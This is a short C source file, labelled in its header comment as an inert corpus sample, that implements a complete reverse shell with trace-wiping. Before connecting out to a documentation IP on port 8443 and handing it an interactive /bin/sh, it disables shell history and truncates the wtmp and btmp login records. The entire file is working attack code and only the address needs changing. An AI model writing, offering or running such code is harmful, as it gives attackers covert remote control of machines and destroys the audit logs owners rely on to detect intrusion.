/* Corpus sample (inert: compiled, never run). A reverse shell written here from scratch that
 * wipes its traces: it turns shell history off in the environment the shell inherits
 * (unsetenv HISTFILE, HISTSIZE=0, HISTFILE=/dev/null through putenv), empties the login
 * records (truncate of wtmp, open of btmp with O_TRUNC), then connects out (TEST-NET-3). */
#include <fcntl.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void forget_history(void)
{
	unsetenv("HISTFILE");
	setenv("HISTSIZE", "0", 1);
	putenv("HISTFILE=/dev/null");
}

static void empty_login_records(void)
{
	truncate("/var/log/wtmp", 0);
	int fd = open("/var/log/btmp", O_WRONLY | O_TRUNC);
	if (fd >= 0)
		close(fd);
}

int main(void)
{
	struct sockaddr_in peer;
	forget_history();
	empty_login_records();
	int s = socket(AF_INET, SOCK_STREAM, 0);
	memset(&peer, 0, sizeof peer);
	peer.sin_family = AF_INET;
	peer.sin_port = htons(8443);
	peer.sin_addr.s_addr = htonl(0xcb00710b); /* 203.0.113.11 */
	if (connect(s, (struct sockaddr *)&peer, sizeof peer) != 0)
		return 1;
	dup2(s, 0);
	dup2(s, 1);
	dup2(s, 2);
	execl("/bin/sh", "sh", "-i", (char *)0);
	return 0;
}
